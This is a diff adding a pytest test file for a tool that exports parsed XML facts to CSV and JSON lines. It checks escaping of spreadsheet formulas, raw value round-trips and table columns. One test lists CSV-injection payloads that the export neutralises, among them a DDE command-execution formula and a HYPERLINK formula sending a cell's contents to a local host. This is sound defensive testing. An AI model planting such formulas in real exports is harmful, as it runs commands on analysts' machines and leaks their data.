@@ -1,0 +1,204 @@
+"""What leaves: every value comes back from the file as it was, and no spreadsheet runs one."""
+
+import json
+from collections.abc import Iterable
+from io import StringIO
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from lxml import etree
+
+from discovery import export
+from discovery.documents.parser import read_root
+from discovery.export import FACT_COLUMNS, FIELD_COLUMNS, Row
+from discovery.storage import queries
+from tests.support.corpus import CORPUS, needs_corpus
+from tests.support.home import finished_run, settings_in
+
+BROKEN_REFERENCE = """<OrderViewRS><DataLists><PaxList>
+<Pax><PaxID>PAX1</PaxID><PTC>ADT</PTC></Pax><Pax><PaxID>PAX2</PaxID><PTC>CHD</PTC></Pax>
+</PaxList><Journeys><Journey><PaxRefID>PAX1</PaxRefID><PaxRefID>PAX9</PaxRefID></Journey>
+</Journeys></DataLists></OrderViewRS>"""
+
+
+def to_csv(rows: Iterable[Row], columns: tuple[str, ...], *, raw: bool = False) -> bytes:
+    """The bytes of the file that is written."""
+    text = StringIO(newline="")
+    export.write_csv(rows, columns, text, raw=raw)
+    return text.getvalue().encode()
+
+
+def read_back(folder: Path, content: bytes) -> pd.DataFrame:
+    """A CSV file as an analyst's program reads it: all text, nothing taken for missing."""
+    path = folder / "facts.csv"
+    path.write_bytes(content)
+    return pd.read_csv(path, dtype=str, keep_default_na=False)
+
+
+def values_of(document: Path) -> list[str]:
+    """The attributes and texts of a document's leaves, in document order."""
+    found: list[str] = []
+    for element in read_root(document).iter(etree.Element):
+        found += (str(value) for value in element.attrib.values())
+        if len(element) == 0:
+            found.append(element.text or "")
+    return found
+
+
+def exported_values(home: Path, document: Path, *, raw: bool) -> list[str]:
+    with finished_run(settings_in(home), document.read_bytes()) as (db, run_id):
+        frame = read_back(home, to_csv(export.field_rows(db, run_id), FIELD_COLUMNS, raw=raw))
+    assert list(frame.columns) == list(FIELD_COLUMNS)
+    return list(frame["value"])
+
+
+@needs_corpus
+def test_formulas_are_neutralised_and_nothing_else_is_changed(tmp_path: Path) -> None:
+    document = CORPUS / "hostile" / "csv_injection.xml"
+    assert exported_values(tmp_path, document, raw=False) == [
+        "'=cmd|' /C calc'!A0",
+        "'=cmd|' /C calc'!A0",
+        "'+1+1",
+        "'@SUM(1+1)*cmd",
+        "'-2+3+cmd",
+        "'\t=1+1",
+        "'\r=1+1",
+        '\'=HYPERLINK("http://127.0.0.1:18080/?x="&A1,"click")',
+        "'=1+1",
+        "-12.50",
+        "+33 1 23 45 67 89",
+        "'@example",
+    ]
+
+
+@needs_corpus
+@pytest.mark.parametrize("name", ["csv_injection", "spreadsheet_breaking", "long_name_and_value"])
+def test_raw_values_survive_exactly(tmp_path: Path, name: str) -> None:
+    document = CORPUS / "hostile" / f"{name}.xml"
+    assert exported_values(tmp_path, document, raw=True) == values_of(document)
+
+
+@needs_corpus
+def test_values_that_break_spreadsheets_survive_neutralising_too(tmp_path: Path) -> None:
+    document = CORPUS / "hostile" / "spreadsheet_breaking.xml"
+    values = exported_values(tmp_path, document, raw=False)
+    assert values == values_of(document)
+    assert "line one\nline two\r\nline three" in values
+    assert {"007", "1E5", "12345678901234567890", "1-2", "TRUE", "", "N/A"} <= set(values)
+
+
+@pytest.mark.parametrize(
+    "harmless",
+    [
+        "",
+        "x",
+        "'=1",
+        "1-2",
+        "a=b",
+        "-12.50",
+        "-1,234.5",
+        "+49 (0) 30 12",
+        "12:30",
+        "-.5",
+        "-1.5E-3",
+    ],
+)
+def test_harmless_text_stays_as_it_is(harmless: str) -> None:
+    assert export.neutralised(harmless) == harmless
+
+
+@pytest.mark.parametrize("formula", ["-1+2", "+1-800", "-1E", "-1.5E-3+A1", "-(1)", "+1\n", "-1=2"])
+def test_what_only_begins_like_a_number_is_neutralised(formula: str) -> None:
+    assert export.neutralised(formula) == f"'{formula}"
+
+
+@pytest.mark.parametrize("sign", list("=+-@\t\r\n＝＋－＠"))
+def test_each_beginning_of_a_formula_is_neutralised(sign: str) -> None:
+    assert export.neutralised(f"{sign}A1") == f"'{sign}A1"
+    assert export.neutralised(sign) == f"'{sign}"
+
+
+@given(value=st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=30))
+def test_any_text_comes_back_but_for_one_apostrophe(
+    value: str, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    folder = tmp_path_factory.getbasetemp()
+    rows = [{"first": "x", "value": value}]
+    raw = read_back(folder, to_csv(rows, ("first", "value"), raw=True))
+    assert raw.to_dict("records") == rows
+    (safe,) = read_back(folder, to_csv(rows, ("first", "value")))["value"]
+    assert safe in (value, f"'{value}")
+    assert not safe.startswith(("=", "@", "\t", "\r", "\n"))
+
+
+def test_the_table_of_facts_has_one_row_a_fact(tmp_path: Path) -> None:
+    ticks = ("/OrderViewRS/DataLists/PaxList/Pax", "/OrderViewRS/DataLists/Journeys")
+    with finished_run(settings_in(tmp_path), BROKEN_REFERENCE, *ticks) as (db, run_id):
+        frame = read_back(tmp_path, to_csv(export.fact_rows(db, run_id), FACT_COLUMNS))
+    assert list(frame.columns) == list(FACT_COLUMNS)
+    assert list(frame["section_path"]) == [ticks[0], ticks[0], ticks[1]]
+    assert list(frame["position"]) == ["1", "2", "3"]
+    assert list(frame["node_ordinal"]) == ["1", "2", "1"]
+    assert list(frame["fields"]) == ["2", "2", "2"]
+    assert list(frame["identifiers"]) == ["1", "1", "0"]
+    assert list(frame["references"]) == ["0", "0", "1"]
+    assert list(frame["dangling_references"]) == ["0", "0", "1"]
+    assert set(frame["confidence"]) == {"1.0"}
+    assert set(frame["summary"]) == {""}
+    assert set(frame["message_root"]) == {"OrderViewRS"}
+
+
+def test_the_table_of_fields_tells_the_part_each_value_plays(tmp_path: Path) -> None:
+    with finished_run(settings_in(tmp_path), BROKEN_REFERENCE, "/OrderViewRS") as (db, run_id):
+        frame = read_back(tmp_path, to_csv(export.field_rows(db, run_id), FIELD_COLUMNS))
+    rows = {(row["value"], row["role"]): row["reference"] for row in frame.to_dict("records")}
+    pax1 = "/OrderViewRS[1]/DataLists[1]/PaxList[1]/Pax[1]/PaxID[1]"
+    assert rows["PAX1", "identifier"] == ""
+    assert rows["PAX1", "reference"] == pax1
+    assert rows["PAX9", "dangling"]
+    assert rows["ADT", ""] == ""
+    assert pax1 in list(frame["xpath"])
+
+
+@needs_corpus
+def test_a_json_record_holds_the_whole_fact(tmp_path: Path) -> None:
+    document = (CORPUS / "ndc" / "alaska_21_3_OrderViewRS.xml").read_bytes()
+    text = StringIO()
+    with finished_run(settings_in(tmp_path), document) as (db, run_id):
+        export.write_jsonl(queries.facts(db, run_id), text)
+        subtrees = queries.subtrees(db, run_id)
+    lines = text.getvalue().splitlines()
+    assert len(lines) == len(subtrees) == 31
+    for line, subtree in zip(lines, subtrees, strict=True):
+        record = json.loads(line)
+        place = {
+            name: record[name]
+            for name in (
+                "position",
+                "section_path",
+                "node_type",
+                "node_ordinal",
+                "xpath",
+                "source_line",
+            )
+        }
+        assert place == {name: getattr(subtree, name) for name in place}
+        assert (record["run_id"], record["message_root"]) == (run_id, "OrderViewRS")
+        assert (record["spec_version"], record["pii_masked"]) == ("21.3", False)
+        assert record["created_at"].endswith("+00:00")
+        fact = record["fact_json"]
+        assert set(fact) == {"structure", "references", "profile", "meaning"}
+        assert set(fact["structure"]) == {"name", "namespace", "attributes", "content"}
+        assert fact["meaning"] is None
+
+
+def test_line_separators_in_values_do_not_break_json_lines(tmp_path: Path) -> None:
+    value = "a\u2028b\u0085c\nd"
+    text = StringIO()
+    with finished_run(settings_in(tmp_path), f"<r><a>{value}</a></r>", "/r/a") as (db, run_id):
+        export.write_jsonl(queries.facts(db, run_id), text)
+    (line,) = text.getvalue().removesuffix("\n").split("\n")
+    assert json.loads(line)["fact_json"]["structure"]["content"] == [value]
